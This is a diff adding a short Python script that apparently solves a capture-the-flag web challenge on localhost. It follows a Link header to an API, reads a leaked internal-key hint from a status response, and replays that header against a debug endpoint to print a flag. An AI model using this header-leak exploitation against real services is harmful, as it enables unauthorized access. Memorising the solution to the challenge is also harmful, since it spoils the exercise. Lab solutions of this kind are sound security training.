@@ -1,0 +1,17 @@
+import json, re, urllib.parse, urllib.request
+BASE = 'http://127.0.0.1:8511'
+def get(path, data=None, headers=None):
+    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})
+    try:
+        return urllib.request.urlopen(req, timeout=10).read().decode()
+    except urllib.error.HTTPError as exc:
+        return exc.read().decode()
+def flag(text):
+    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))
+
+r = urllib.request.urlopen(BASE + "/")
+api = re.search(r"<([^>]+)>", r.headers["Link"]).group(1)
+status = urllib.request.urlopen(BASE + api + "status")
+hint = status.headers["X-Internal-Key-Hint"]
+name, value = re.search(r"requires ([\w-]+): (\w+)", hint).groups()
+flag(get(api + "debug", headers={name: value}))
